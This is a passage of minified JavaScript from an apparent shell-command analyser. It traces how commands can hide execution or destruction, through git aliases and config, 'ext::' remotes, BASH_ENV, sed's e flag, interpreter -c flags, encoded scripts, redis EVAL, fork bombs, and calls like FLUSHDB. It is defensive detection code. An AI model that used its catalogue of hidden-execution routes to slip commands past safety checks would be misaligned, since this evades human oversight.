`,"%t":"	"},nc=(t,e=i$)=>t.replace(Cs.format_field,s=>e[s]??(s.length===1?"\uFFFC\uFFFB":"\uFFFC"));function oc({program:t,args:e}){let{prefix:s,names:r,unread:n,
...o}=S.formats.get(t),{options:i}=W(e,{...o,permuted:!0}),a=s?e.find(({text:l})=>l.startsWith(s))?.text.slice(s.length):r?M(i,...r).at(-1)?.text:e.map(({text:l})=>l).
join(" ");return a===void 0?"\uFFFC":n?new RegExp(n).test(a)?"\uFFFC\uFFFB":"\uFFFC":/^[\w-]+$/.test(a)?"\uFFFC":`${nc(ds(a.replace(/^t?format:/,"")))}
`}function a$(t){let e=t.filter(({text:s})=>!/^(?:--|-z|-c|--cached|-o|--others|--exclude-standard)$/.test(s));return e.some(({text:s})=>s.startsWith("-"))?"\uFFFC":
`${e.map(({text:s})=>/[*.]/.test(s)?s:`${s}/*`).join(`
`)||"*"}
`}var pm=({args:t,scope:e})=>{let{operands:s}=W(t,{long:["relative-to","relative-base"],permuted:!0}),r=`${e.value("PWD")}/`,n=s.map(({text:o})=>/^[/~]/.test(o)||
o.startsWith("\uFFFC")?o:r+o);return Oe(n.map(o=>En.posix.normalize(o).replace(/(?<=[^/])\/+$/,"")))},fm={realpath:pm,stat:({args:t})=>{let{options:e,operands:s}=W(
t,{short:"cft",long:["format","printf"],permuted:!0}),[r]=M(e,"c","f","t","format","printf");if(!r)return"\uFFFC";let n=s.map(({text:i,glob:a})=>a?i.replaceAll(
"*","\uFFFC"):i),o=ds(r.text);return Oe(n.map(i=>nc(o,{"%%":"%","%n":i,"%N":i})))},git:t=>{let[e="",s]=t.args.map(({text:r})=>r);return e==="rev-parse"&&s==="--\
show-toplevel"?`.
`:e==="rev-parse"&&s==="--sq-quote"?"\uFFFC\uFFFB":e==="ls-files"&&!t.context.isPiped?a$(t.args.slice(1)):Cs.git_filter.test(e)?Pe(t.context.stdin?.remaining||"\
\uFFFC"):oc(t)},seq:({args:t})=>{let{options:e,operands:s}=W(t,{short:"fs",long:["format","separator"]}),r=M(e,"f","s","format","separator");if(r.length>0)return r.
every(({text:c})=>Cs.harmless.test(c))?"\uFFFC":"\uFFFC\uFFFB";let n=s.map(({text:c})=>Number(c)),[o,i,a]=n.length===3?n:n.length===2?[n[0],1,n[1]]:[1,1,n[0]],l=Math.
floor((a-o)/i)+1;return!(l<=100)||![o,i].every(Number.isSafeInteger)?"\uFFFC":Oe(Array.from({length:Math.max(0,l)},(c,d)=>`${o+d*i}`))},readlink:t=>t.args.some(
({text:e})=>/^-\w*[fem]|^--canon/.test(e))?pm(t):"\uFFFC",basename:({args:t})=>{let{options:e,operands:s}=W(t,{short:"s",long:["suffix"]}),[r]=M(e,"s","suffix"),
n=r!==void 0||K(e,"a","multiple"),o=r??(n?void 0:s[1]),i=n?s:s.slice(0,1);if(o&&!Ie(o))return Oe(i.map(({text:l})=>Pe(l)));let a=l=>En.posix.basename(l,o?.text)||
En.posix.basename(l)||l.slice(0,1);return Oe(i.map(({text:l})=>a(l)))},dirname:({args:t})=>{let e=W(t,{permuted:!0}).operands;return Oe(e.map(s=>(Ie(s)?En.posix.
dirname:Pe)(s.text)))},jq:({args:t,context:e})=>{let{options:s,operands:r}=W(t,{short:"fL",long:["from-file","indent"],permuted:!0}),n=s.some(({name:p})=>/^(?:(?:json)?args|arg(?:json)?|slurpfile|rawfile)$/.
test(p)),o=n?r.findIndex(({text:p})=>/[.$"[|]/.test(p)):0,a=((K(s,"f","from-file")?void 0:r[Math.max(0,o)])?.text??"").replace(Cs.jq_choosing,""),l=[...a.matchAll(
Cs.jq_text)].map(([,p])=>p.replace(Cs.jq_interpolation,"\uFFFC")),c=Cs.jq_making.test(a)&&(l.length>0||/\bimplode\b/.test(a)),d=/\benv\b|\$ENV/.test(a)&&Object.
values(e.environment).some(Ie),u=l.every(p=>Cs.plain_text.test(p));return c||d||n&&/\$/.test(a)||!u?"\uFFFC\uFFFB":Pe(e.stdin?.remaining||"\uFFFC")}},mm=(t,e,s)=>e.
map(r=>nc(ds(t),{"%%":"%","%p":r,"%H":s})).join("");function wi(t){let{program:e}=t;if(l$.unique_output.test(ue(t)))return`${S.uniqueMark}00
`;let s=S.formats.has(e)?oc:void 0,r=u$.get(e)??(S.filters.has(e)?wm:s),n=r?r(t):S.silent.has(e)?"":"\uFFFC";return n.length>cs?"\uFFFC\uFFFB":(t.interpreter.budget.
spend(n.length>>6),n)}var{forms:l$}=S,c$=16,yi=({args:t})=>t.map(({text:e})=>e),cr=(t,e="",s=Pe)=>r=>{let n=W(r.args,{short:e,permuted:!0}),o=r.readFiles(n.operands);
return o.includes("\uFFFC")?s(o):t(o,n)??"\uFFFC\uFFFB"},ic=(t,e="")=>cr(t,e,s=>s),ym=(t,e)=>{let s=e.replace(/\s+/g,"");return(t==="hex"?/^[\da-f]*$/i:/^[\w+/=-]*$/).
test(s)?Buffer.from(s,t).toString("utf8"):"\uFFFC\uFFFB"},hm=cr((t,{options:e})=>K(e,"d","D","decode")?ym("base64",t):`${Buffer.from(t).toString("base64")}
`,"w"),An=t=>t.replace(/\n$/,"").split(`
`),gm=t=>ic((e,{options:s})=>{let r=s.map(({name:i})=>i).join(""),n=M(s,"n","lines")[0]?.text??(/^\d+$/.test(r)?r:"10"),o=An(e);if(t&&/^\+\d+$/.test(n))return Oe(
o.slice(Number(n)-1));if(!(!/^\d{1,6}$/.test(n)||K(s,"c","bytes")))return Oe(t?o.slice(-Number(n)):o.slice(0,Number(n)))},"cn");function d$(t,{options:e}){if(e.
some(({name:r})=>!/^(?:[uro]|unique|reverse|output)$/.test(r)))return;let s=An(t).sort();return K(e,"r","reverse")&&s.reverse(),Oe(K(e,"u","unique")?[...new Set(
s)]:s)}function wm(t){let s=W(t.args,{permuted:!0}).operands.slice(0,c$).map(({text:n})=>t.findWritten(n)?.text??"");return[t.context.stdin?.remaining??"",...s].
filter(n=>n!=="").some(n=>Pe(n)==="\uFFFC\uFFFB")?"\uFFFC\uFFFB":"\uFFFC"}function ac(t,e,{interpreter:s,context:r,scope:n},o=!1){let i=e.includes("\uFFFC")?de(
r):[];s.files[o?"append":"write"](t,e,n.folder,i)}function bm(t){let{options:e,operands:s}=W(t.args,{permuted:!0}),r=t.context.stdin?.readRest()??"\uFFFC";for(let{
text:n}of s)ac(n,r,t,K(e,"a","append"));return r}var u$=hi({echo:t=>{let e=yi(t),s=0;for(;/^-[neE]+$/.test(e[s]??"");)s+=1;let r=e.slice(0,s).join(""),n=e.slice(
s).join(" ");return(r.includes("e")?ds(n):n)+(r.includes("n")?"":`
`)},printf:t=>Cn(yi(t)),cat:t=>t.readFiles(W(t.args,{permuted:!0}).operands),base64:hm,openssl:t=>t.args[0]?.text==="base64"?hm(t.with({args:t.args.slice(1)})):
wm(t),xxd:cr((t,{options:e})=>K(e,"r")&&K(e,"p","ps")?ym("hex",t):void 0),rev:cr(t=>Oe(An(t).map(e=>[...e].reverse().join("")))),tac:cr(t=>Oe(An(t).reverse())),
tr:t=>{let e=t.context.stdin?.readRest()??"\uFFFC";return e.includes("\uFFFC")?Pe(e):p$(e,yi(t))??"\uFFFC\uFFFB"},head:gm(!1),tail:gm(!0),cut:cr((t,{options:e})=>{
let[s]=M(e,"c","b","f"),r=/^(\d*)(-?)(\d*)$/.exec(s?.text??"");if(!r)return;let n=Math.max(1,Number(r[1]||1)),o=r[2]===""?n:Number(r[3]||cs),i=M(e,"d")[0]?.text??
"	",a=K(e,"f"),l=c=>(a?c.split(i):[...c]).slice(n-1,o).join(a?i:"");return Oe(An(t).map(l))},"cbfd"),sort:t=>{let e=ic(d$,"oktST")(t),{options:s}=W(t.args,{short:"\
oktST",long:["output"],permuted:!0}),[r]=M(s,"o","output");return r&&ac(r.text,e,t),r?"":e},uniq:ic((t,{options:e})=>K(e,"c","count","f","s","w")?void 0:t),mktemp:({
args:t})=>{let{options:e,operands:s}=W(t,{short:"p",long:["suffix"],permuted:!0}),[r]=M(e,"p","tmpdir"),n=s[0]?s[0].text.replace(/X{3,}/,"\uFFFC"):`tmp.${"\uFFFC"}`,
o=r?.text??(s[0]&&!K(e,"t","tmpdir")?void 0:"/tmp");return`${o===void 0?n:`${o}/${n}`}
`},strings:cr(t=>t),ls:({args:t})=>{let{options:e,operands:s}=W(t,{permuted:!0});return!K(e,"d","directory")||K(e,"l")||s.length===0?"\uFFFC":Oe(s.map(({text:r})=>r.
replaceAll("*","\uFFFC")))},yes:t=>`${yi(t).join(" ")||"y"}
`.repeat(10),pwd:({scope:t})=>`${t.value("PWD")}
`,"which type":({args:t})=>{let{operands:e}=W(t,{permuted:!0});return e.map(({text:s})=>s.includes("/")?s:`/usr/bin/${s}`).join(`
`)},tee:bm,sponge:t=>{let e=bm(t);return t.args.length>0?"":e},grep:t=>{let{options:e,operands:s}=W(t.args,S.getopt.grep);if(K(e,"c","count","q","quiet"))return"\
\uFFFC";let r=K(e,"e","regexp","f","file")?s:s.slice(1),n=K(e,"r","R","recursive");if(K(e,"l","L","files-with-matches","files-without-match")){let i=r.map(({text:a})=>a.
replaceAll("*","\uFFFC"));return Oe(n?i.map(a=>`${a}/${"\uFFFC"}`):i)||"\uFFFC"}if(n)return"\uFFFC";let o=t.readFiles(r);return K(e,"o","only-matching","n","H",
"b")?Pe(o):o},dd:t=>{let e=l=>t.args.find(({text:c})=>c.startsWith(l))?.text.slice(l.length),[s,r]=[e("if="),e("of=")],o=(s===void 0?t.context.stdin?.readRest():
t.findWritten(s)?.text)??"\uFFFC",a=t.args.some(l=>/^(?:skip|count|conv|bs|ibs)=/.test(l.text))?Pe(o):o;return r===void 0?a:(ac(r,a,t),"")},...fm});function p$(t,e){
let s=e.filter(i=>/^-[cCdst]+$/.test(i)).join(""),[r,n]=e.filter(i=>!/^-[cCdst]+$/.test(i)).map(f$);if(r===void 0||/[cCs]/.test(s))return;if(s.includes("d"))return[
...t].filter(i=>!r.includes(i)).join("");if(n===void 0||n.length===0)return;let o=new Map(r.map((i,a)=>[i,n[Math.min(a,n.length-1)]]));return[...t].map(i=>o.get(
i)??i).join("")}function f$(t){let e=ds(t.replace(/\[:(\w+):\]/g,(n,o)=>S.characterClasses[o]??"")),s=[],r=[...e];for(let n=0;n<r.length&&s.length<1024;n+=1){let[
o,i]=[r[n].codePointAt(0),r[n+2]?.codePointAt(0)];if(r[n+1]==="-"&&i!==void 0&&i>=o&&i-o<256){for(let a=o;a<=i;a+=1)s.push(String.fromCodePoint(a));n+=2}else s.
push(r[n])}return s}var vm=require("node:path");var{forms:m$}=S,km={"git-dir":"GIT_DIR","work-tree":"GIT_WORK_TREE"},h$=8;function xm(t){let{options:e,operands:s}=W(t.args,S.getopt.git),r={...t.context.environment},
n=g$(e,r,t);for(let{name:l,value:c}of e)km[l]&&c&&(r[km[l]]=c);let o=t.scope.copy();for(let{text:l}of M(e,"C"))o.folder=/^[/~]/.test(l)||o.folder===void 0?l:vm.posix.
normalize(`${o.folder}/${l}`);let i=t.with({args:s,scope:o,context:{...t.context,environment:r}});for(let[l,c]of n)m$.git_settings.test(l)&&i.runShell(c.replace(
/^!/,""));let a=t.context.wrappers.includes("git")?{}:{...t.scope.exported(),...r};for(let l of S.gitVariables)a[l]!==void 0&&i.runShell(a[l].text);return $m(i,
n,0)}function g$(t,e,{scope:s}){let r=[],n=s.exported(),o=a=>(e[a]??n[a])?.text,i=Number(o("GIT_CONFIG_COUNT")??0)||0;for(let a=0;a<Math.min(i,50);a+=1)r.push([
o(`GIT_CONFIG_KEY_${a}`)??"",o(`GIT_CONFIG_VALUE_${a}`)??"\uFFFC"]);for(let[,a,l]of(o("GIT_CONFIG_PARAMETERS")??"").matchAll(/'([^'=]+)'?='?([^']*)'/g))r.push([
a,l]);for(let{text:a}of M(t,"c")){let[,l=a,c="true"]=/^([^=]+)=([\s\S]*)$/.exec(a)??[];r.push([l,c]),e[`GIT_CONFIG_KEY_${i}`]=R(l),e[`GIT_CONFIG_VALUE_${i}`]=R(
c),i+=1,e.GIT_CONFIG_COUNT=R(String(i))}for(let{text:a}of M(t,"config-env")){let[l="",c=""]=a.split("=");r.push([l,(e[c]??s.get(c)?.words[0])?.text??"\uFFFC"])}
return r}function $m(t,e,s){let[r,...n]=t.args;if(r===void 0)return t.record();let o=e.findLast(([a])=>a.toLowerCase()===`alias.${r.text.toLowerCase()}`)?.[1]??
t.interpreter.gitAliases.get(r.text);if(o!==void 0&&s<h$){if(o.startsWith("!"))return t.runShell(`${o.slice(1)} "$@"`,[R("git"),...n]);let a=o.trim().split(/\s+/),
l=$e(a.map(c=>c.replace(/^(["'])(.*)\1$/,"$2")));return $m(t.with({args:[...l,...n]}),e,s+1)}let i=t.record();return b$(r.text,n,t),i}function b$(t,e,s){let{code:r=[],
...n}=S.gitCode.get(t)??{},{options:o,operands:i}=W(e,{...n,permuted:!0});for(let{text:d}of M(o,...r))s.runShell(d);t==="bisect"&&e[0]?.text==="run"&&s.runCommandWords(
e.slice(1));let[,a]=/(?:^| )foreach (?:(?:--recursive|-q|--quiet) )?([\s\S]*)/.exec(ie(e).text)??[];t==="submodule"&&a!==void 0&&s.runShell(a);for(let{text:d}of i)
d.startsWith("ext::")&&s.runShell(d.slice(5).replaceAll("% ","\\ "));let l=t==="config"?e.findIndex(({text:d})=>/^alias\./i.test(d)):-1,c=e[l+1]?.text;l!==-1&&c!==
void 0&&s.interpreter.gitAliases.set(e[l].text.slice(6),c)}gt();var y$=16,w$=/^([A-Za-z_]\w*)=([\s\S]*)$/g;function k$(t,e,{options:s,operands:r,code:n,files:o,reads:i}){let{args:a,scope:l,context:c}=t,[d]=r,u=d!==void 0&&(o.
includes(d)||n.includes(d)||i&&d.text==="-"),p=e==="python"?a.findIndex(_=>n.includes(_)):-1,f=p>=0?a.slice(p+1):r.slice(u?1:0),m=e==="awk",g=m||(e==="perl"||e===
"ruby")&&K(s,"n","p")?f.slice(0,y$).flatMap(({text:_})=>t.findWritten(_)?.text??[]):[],y=i||c.stdin?.remaining==="\uFFFC"?void 0:c.stdin?.remaining,x=m?[...M(s,
"v","assign"),...f]:[];return{args:f,environment:{...l.exported(),...c.environment},variables:new Map(x.flatMap(({text:_})=>[..._.matchAll(w$)].map(([,E,$])=>[E,
$]))),...we({script:u&&o.includes(d)?d.text:void 0,input:g.length>0?g.join(""):y||void 0,separator:m?M(s,"F","field-separator")[0]?.text:void 0,printsLast:e==="\
javascript"&&K(s,"p","print")||void 0})}}var{interpreters:_m,forms:dr}=S;function ki(t){let e=Sm(t.slice(t.lastIndexOf("/")+1));return/^(ba|da|z|k|a|mk)?sh$/.test(
e)?"shell":_m.get(e)?.language}var Sm=t=>t.replace(/\.exe$/i,"").replace(/^(python|pypy|perl|ruby|php|lua)[\d.]+$/,"$1").replace(/^pypy$/,"python");function v$(t,e,s){
let{code:r=[],module:n=[],operands:o}=s,{options:i,operands:a}=W(_$(e,t.args),s),l=M(i,...r),c=M(i,...s.files??[]);o==="code"&&l.length===0&&c.length===0&&l.push(
...e==="redis-cli"&&a.length>0?[ie(a)]:a.slice(0,1)),o==="database then code"&&l.push(...a.slice(1)),l.length===0&&c.length===0&&c.push(...$e(s.usual??[])),o===
"database then files"&&c.push(...a.filter(({text:m})=>/\.(?:m?js|mongodb)$/.test(m))),i.some(({value:m})=>m?.text.startsWith("data:"))&&t.interpreter.budget.fail(
"too-much","code in an address is not followed");let[d]=M(i,...n);d?.text==="timeit"&&l.push(...a.filter(({text:m})=>!/^-\w*[nru]?\d*$/.test(m)));let u=o===void 0&&
l.length===0&&!K(i,...n);u&&a[0]&&a[0].text!=="-"&&c.push(a[0]);let p=M(i,...r.filter(m=>m==="init-command")),f=c.some(({text:m})=>/^(?:-|\/dev\/stdin|\/dev\/fd\/0)$/.
test(m))||l.length===p.length&&c.length===0&&(u||o!==void 0);return{options:i,operands:a,code:l,files:c,reads:f}}function vi(t){let e=Sm(t.program),s=_m.get(e);
if(!s)return;let{language:r}=s,n=v$(t,e,s),{options:o,operands:i,code:a,files:l,reads:c}=n,[d,u]=i;e==="redis-cli"&&u&&/^eval$/i.test(d.text)&&t.runWords($e(["l\
ua","-e",u.text]));let p=(c?t:t.withoutInput()).feedFromSubstitution(a[0]?.text??""),[f]=l.map(({text:j})=>t.findWritten(j)?.from),m=r==="awk"?wi(t):void 0,h={code:ie(
a).text,from:de(t.context)},g=t.args.filter(j=>!a.includes(j)||j.text.includes("\uFFFC")),y=p.feedFrom(f).with({args:g,...r==="awk"&&{filter:h}}).record(),x=k$(
t,r,n),_=[...[...a,...x$(t.args,i,s)].map(({text:j})=>j),...l.flatMap(({text:j})=>t.findWritten(j)?.text??[])];e==="perl"&&K(o,"i")&&K(o,"n")&&a.length>0&&!a.some(
({text:j})=>/\bprintf?\b(?! if 0\b)|\b(?:say|\w*write)\b/.test(j))&&t.runWords($e(["truncate","-s","0"]).concat(i));let $=o.map(({name:j,value:xe})=>j==="M"?`M${xe?.
text}`:j);if(_.length>0&&$.some(j=>s.checks?.includes(j))&&$.every(j=>dr.checking_option.test(j))&&!_.some(j=>dr.early_code.test(j)))return y;let q=e.startsWith(
"ipython")?_.map($$):_,A=Cm(r,q,t.wrap(),c,x),N=A!==""&&(m==="\uFFFC"||dr.awk_field.test(h.code));return m!==void 0?N?A:m:r==="sql"?Em(a.map(({text:j})=>j))??y:
A===""||K(o,"p")&&e!=="node"?y:A}function Cm(t,e,s,r,n){let o=e.map(a=>us(t,a,s,n)),i=r?s.context.stdin?.readRest():void 0;return i!==void 0&&o.push(us(t,i,s.consumeInput(),
n)),o.join("")}function x$(t,[e,...s],r){if(!e||r.operands==="no code")return[];let n=r.operands===void 0&&/[(;`\n]/.test(e.text)?[e]:[];if(!/^-./.test(t[t.indexOf(
e)-1]?.text??""))return n;let{options:o,operands:i}=W(s,r),a=M(o,...r.code??[]);return[...n,...a,...r.operands==="code"?i.slice(0,1):[]]}var $$=t=>t.replace(/^\s*!(.+)$/gm,
(e,s)=>`os.system(${JSON.stringify(s)})`);function Em(t){let e=t.flatMap(s=>[...s.slice(0,1e4).matchAll(dr.generated_statement)].map(([,r])=>`${r}${"\uFFFC"};
`));return e.length>0?e.join(""):void 0}function _$(t,e){let[s,...r]=e;return t==="deno"&&s?.text==="eval"?[R("-e"),...r]:(t==="deno"||t==="bun")&&s?.text==="ru\
n"?r:e}function us(t,e,s,r=Co){let{scope:n,program:o,interpreter:i}=s,{budget:a,files:l,readCode:c}=i;je(e)&&a.fail("too-much",`${o} runs code that cannot be re\
ad to its end`);let d="";if(!c)return d;let u=t==="sql"&&/\\gexec\b/.test(e)?Em([e]):void 0;return u&&us("sql",u,s,r),a.descend(()=>{a.spend(e.length>>8);let{invocations:p,
problem:f}=c(t,t==="sql"?S$(e,s):e,{readCommand:(m,h)=>C$(m,s,h),onWrite:(m,h)=>l.write(m,h,n.folder),input:r,onPrint:m=>{d=Ut(d,m)}});f&&(t!=="other"||dr.deleting_call.
test(e))&&a.fail(f.kind,f.detail);for(let m of p)i.record(A$(m,s))},void 0),d}function S$(t,{program:e,args:s}){let r=`${t} ${ie(s).text}`,n=dr.key_scripts.test(
r);return/^(?:redis|valkey|keydb)-cli$/.test(e)?n?"FLUSHDB":t.replaceAll(`
`,`;
`):(/^(?:mysql|mariadb)$/.test(e)?t.replace(/\\[Gg](?=\s|$)/g,";"):t).replace(/^\s*\.open\s+(\S+).*$/gm,"ATTACH '$1';").replace(/^\s*\.(?!shell|system)\w+.*$/gm,
"")}function C$(t,e,s){let{context:r}=e,n=e.interpreter.invocations.length,o={...r,wrappers:[],redirects:[],captured:!0,isPiped:!1},i=e.createChildScope();s!==void 0&&
(i.folder=s);let a=e.interpreter.runScript(t,i,o);return{invocations:e.interpreter.invocations.splice(n),output:a}}function E$({program:t,args:e},s){let[r,...n]=e,
o=[...s.args,...Object.values(s.environment)];return!(t==="sql"&&/^(?:delete|update)-some$/.test(r?.text??""))||!o.some(({text:a})=>dr.production_name.test(a))?
e:[R(r.text.replace("some","production")),...n]}function A$(t,{scope:e,program:s,args:r,context:n}){let o={program:s,args:r,environment:{...e.exported(),...n.environment}};
return{...t,args:E$(t,o),wrappers:[...n.wrappers,...t.wrappers],redirects:[...n.redirects,...t.redirects],...we({client:t.client??(t.program==="sql"?o:void 0),input:t.
input??n.input,needs:t.needs??n.needs,folder:t.folder??(e.folder===void 0?void 0:R(e.folder))})}}function Am(t){let[e,s]=T$(t),r=S.consoles.get(e),[n,...o]=s.slice(
s.findIndex(({text:d})=>!d.startsWith("-")));if(!r||!n||!r.after.includes(n.text))return;let{options:i,operands:a}=W(o,{...r,permuted:!0}),l=M(i,...r.code??[]);
r.operands==="code"&&l.length===0&&l.push(...a.slice(0,1).filter(({text:d})=>d!=="-"));let c=l.map(({text:d})=>d);Cm(r.language,c,t.wrap(e),l.length===0)}function T$({
program:t,args:e}){let s=ki(t)?e.findIndex(({text:n})=>!n.startsWith("-")):-1;if(s===-1)return[t,e];let{text:r}=e[s];return[r.slice(r.lastIndexOf("/")+1),e.slice(
s+1)]}gt();var{forms:lc}=S,P$=1e4;function Tm(t){if(t.length>P$)return;let e=[];for(let s=0;s<t.length;s=lc.sed_command.lastIndex){lc.sed_command.lastIndex=s;let r=lc.sed_command.
exec(t)?.groups;if(!r)return;let n=R$(r);n&&e.push(n)}return e}function R$(t){let{pattern:e,replacement:s,flags:r="",target:n,delimiter:o="",command:i,output:a,
input:l}=t;return e!==void 0?{kind:"replace",pattern:e.slice(0,-1),replacement:s.slice(0,-1),flags:r,delimiter:o,...we({file:n?.trim()})}:i!==void 0?{kind:"exec\
ute",command:i.trim()}:a!==void 0?{kind:"write",file:a.trim()}:l!==void 0?{kind:"read",file:l.trim()}:t.select!==void 0?{kind:"select"}:t.other===void 0?void 0:
{kind:"other"}}var{forms:I$}=S,q$=2,O$=3e5,N$=128,L$=8;function D$(t,e,s,r){let{pattern:n,replacement:o,flags:i,delimiter:a}=e;if(t.includes("\uFFFC"))return Pe(t);let l=h=>h.
replaceAll(`\\${a}`,()=>a),c=n.match(/[*+{]/g)?.length??0,d=/^[gpeI]*$/i.test(i)?j$(l(n),i,s):void 0,u=t.replace(/\n$/,"").split(`
`),p=u.reduce((h,g)=>h+g.length**(c+1),0),f=c<=q$&&p<=O$&&r.spend(Math.ceil(p/N$));if(!d||!f||/^(?:[^\\]|\\[^a-zA-Z])*\\[a-zA-Z]/.test(o))return Pe(t);let m=l(o).
replace(/\\([\s\S])|[$&]/g,(h,g)=>/\d/.test(g)?`$${g}`:g??(h==="&"?"$&":"$$"));return u.map(h=>h.replace(d,m)).join(`
`)+(t.endsWith(`
`)?`
`:"")}function j$(t,e,s){let r=t.replace(/\[:(\w+):\]/g,(o,i)=>S.characterClasses[i]??o);if(/\\[\w<>'\x60]|\[[:.=]/.test(r))return;let n=r.replace(/\\([\s\S])|\[(\^?)(\]?[^\]]*)\]|(?<=^\^?)\*|(?<!^)\^|\$(?!$)|[(){}|+?\]]/g,
(o,i,a,l)=>{if(l!==void 0)return`[${a}${l.replace(/[\\\]](?!s)/g,"\\$&")}]`;let c=/[(){}|+?]/.test(i??o);return c&&i===void 0===s?i??o:i===void 0||c?`\\${i??o}`:
o});if(!/[^\\]\)[*+?{]/.test(n))return $s(n,`${e.includes("g")?"g":""}${/i/i.test(e)?"i":""}`)}function Pm(t){let{options:e,operands:s}=W(t.args,S.getopt.sed),r=M(
e,"e","expression").map(({text:m})=>m),n=M(e,"f","file").map(m=>t.readFiles([m]));r.length===0&&n.length===0&&r.push(s.shift()?.text??"");let o=[...r,...n].join(
`
`),i=Tm(o);t.interpreter.budget.spend(L$*(i?.length??0));let a=(i??[]).flatMap(m=>{let h=Rm(m),g=m.kind==="read"?"read":"write";return h?[{kind:g,path:R(h)}]:[]});
t.redirect(a).record();let l=K(e,"i","in-place"),[c]=s,d=l&&s.length===1?t.findWritten(c.text)?.text:void 0,u=l?d??"\uFFFC":t.readFiles(s);if(i===void 0)return o.
includes("\uFFFC")||t.interpreter.budget.fail("unparsable","its sed script cannot be parsed"),Pe(u);let p=K(e,"E","r","regexp-extended"),f=u;for(let m of i)m.kind===
"replace"&&(f=D$(f,m,p,t.interpreter.budget)),f=W$(m,f,s,t);return d!==void 0&&!f.includes("\uFFFC")&&t.write(c.text,f),l?"":Ut(f,"")}var Rm=t=>"file"in t&&!I$.
output_device.test(t.file??"")?t.file:void 0;function W$(t,e,s,r){if(t.kind==="other")return Pe(e);if(t.kind==="execute"&&t.command==="")return cc(e,s,r);if(t.kind===
"execute"&&r.runShell(t.command),t.kind==="execute"||t.kind==="read")return Lt(e);if(t.kind==="replace"&&t.flags.includes("e")){if(!e.includes("\uFFFC"))return cc(
e,[],r);let o=t.replacement.replace(/\\\d|&/g,"\uFFFC").replace(/\\([\s\S])/g,"$1");return r.runShell(o),s.length>0?"\uFFFC":cc(e,[],r)}let n=Rm(t);return n!==void 0&&
r.write(n,e),e}function cc(t,e,s){let r=s.with({context:st(s.context,t,s.context.input)});if(t==="\uFFFC")r.runWords([R("sh"),...e]);else for(let n of t.split(`\

`))s.consumeInput().runShell(n);return"\uFFFC"}var{forms:qm}=S;function Om(t){let{program:e,scope:s,context:r}=t,n=S.codeVariables.get(e)?.variables??[],o=qm.shell_program.test(e);if(n.length===0&&!o||r.wrappers.
includes(e))return;let i={...s.exported(),...r.environment},{input:a,stdin:l,...c}=r,d=t.with({context:c});for(let u of n)i[u]&&d.runShell(i[u].text.replace(/^\|{0,2}-?\s*/,
""));o&&M$(d,i)}function M$(t,e){let s=t.args.some(({text:o})=>/^-\w*i/.test(o)),r=/^(?:r?ba|z)sh$/.test(t.program)&&!s?"BASH_ENV":"ENV",n=e[r];n&&(r==="BASH_EN\
V"||s)&&t.runWords([R("."),n],t.createChildScope()),s&&e.PROMPT_COMMAND&&t.runShell(e.PROMPT_COMMAND.text);for(let o of[r,"PS4",...s?["PS1"]:[]]){let i=e[o]?.text??
"";/\$\(|`/.test(i)&&t.runShell(`: "${i}"`)}}function Tn(t,e=t.scope){let{context:s}=t,r=s.stdin?.readRest();return r===void 0?t.record():(!r.includes("\uFFFC")&&
!F$(s)?t.with({context:{...s,input:{kind:"text",text:r}}}).record():(s.input?.kind==="text"?t.feedFromSubstitution(r):t).record(),t.consumeInput().runScript(r,e))}
var F$=t=>{let e=de(t).at(-1)?.path;return e!==void 0&&/^(?:python|javascript|perl|ruby|php|awk)$/.test(ki(e)??"")};function Im(t,e){let s=e.findWritten(t.text);
return e.context.isConcurrent&&t.text===e.scope.arguments[0]?.text&&e.interpreter.reportForkBomb(e),e.withoutInput().feedFrom(s?.from).record(),s===void 0?"\uFFFC":
Nm(t,s.text,e)}function Nm(t,e,s){let[,r]=/^#!\s*(\S.*)/.exec(e)??[],n=r&&ki(r.split(/\s+/).at(r.includes("env ")?-1:0)),o=`file ${t.text}
${e}`;if(s.interpreter.activeScripts.includes(o))return s.context.isConcurrent&&s.interpreter.reportForkBomb(s),"\uFFFC";s.interpreter.activeScripts.push(o);let i="\
\uFFFC",a=s.createChildScope([t,...s.args.slice(1)]);return n&&n!=="shell"?us(n,e,s.wrap()):i=s.with({context:{...s.context,isConcurrent:!1}}).runScript(e,a),s.
interpreter.activeScripts.pop(),i}function Lm(t){let[e]=t.words,s=e.text.includes("/")?t.interpreter.files.written(e.text,t.scope.folder):void 0;if(s!==void 0)return t.
feedFrom(s.from).record(),Nm(e,s.text,t.with({args:t.words}))}var Dm={"sh bash dash zsh ksh mksh ash rbash fish csh tcsh yash":t=>{let{args:e}=t,s=S.getopt[t.program===
"fish"?"fish":"shell"],r=e.map(u=>/^\+[a-zA-Z]/.test(u.text)?{...u,text:`-${u.text.slice(1)}`}:u),{options:n,operands:o}=W(r,s);for(let{name:u,value:p}of n)p&&(u===
"rcfile"||u==="init-file")&&Im(p,t.with({args:[p]}));let i=M(n,"c","command","C","init-command").map(({text:u})=>u),[a,...l]=i.length>0?[R(i.join(`
`)),...o]:o;if(K(n,"n","no-execute")&&!K(n,"i")&&!e.some(({text:u})=>u.startsWith("+")))return t.withoutInput().with({args:[]}).record();if(K(n,"c","command")||
i.length>0){if(a===void 0)return t.record();let u=l[0]??R(t.program);return t.withoutInput().feedFromSubstitution(a.text).with({args:e.filter(f=>f!==a||!Ie(f))}).
record(),t.runShell(a.text,[u,...l.slice(1)])}return a===void 0||K(n,"s")||qm.standard_input.test(a.text)?Tn(t,t.createChildScope([R(t.program),...o])):Im(a,t.with(
{args:o}))},"source .":t=>{let[e,...s]=t.args;if(e===void 0)return t.record();if(e.text==="/dev/stdin"||e.text==="-")return Tn(t);let r=t.findWritten(e.text);return t.
feedFrom(r?.from).record(),r===void 0?"\uFFFC":(s.length>0&&(t.scope.arguments=[e,...s]),t.runScript(r.text))}};var{forms:wt}=S,dc=65536,uc=20;function V$(t){let{code:e=[],operands:s,does:r,ignores:n=[],...o}=S.smallLanguages.get(t.program),i=S.dialects.get(o.dialect??""),
a=t.args.map(g=>e.includes("encoded")&&/^(?:--?|\/)e(?:c|n\w*)?$/i.test(g.text)?R("--encoded"):/^-(?:eval|batch|load|[Cc]ommand)$/.test(g.text)?R(`-${g.text}`):
g),{options:l,operands:c}=W(a,{...o,permuted:!0}),d=t.record(),u=M(l,"encoded"),p=M(l,...e).flatMap(g=>u.includes(g)?Buffer.from(g.text,"base64").toString("utf1\
6le"):g.text==="-"?[]:g.text),f=c.slice(0,uc);p.push(...f.flatMap(({text:g})=>t.interpreter.files.written(g,t.scope.folder)?.text??[]));let m=c.filter(({text:g})=>!wt.
input_name.test(g));s==="code"&&p.length===u.length&&m.length>0&&p.push(ie(m).text),p.length===0&&(c.length===0||c.some(({text:g})=>wt.input_name.test(g)))&&p.push(
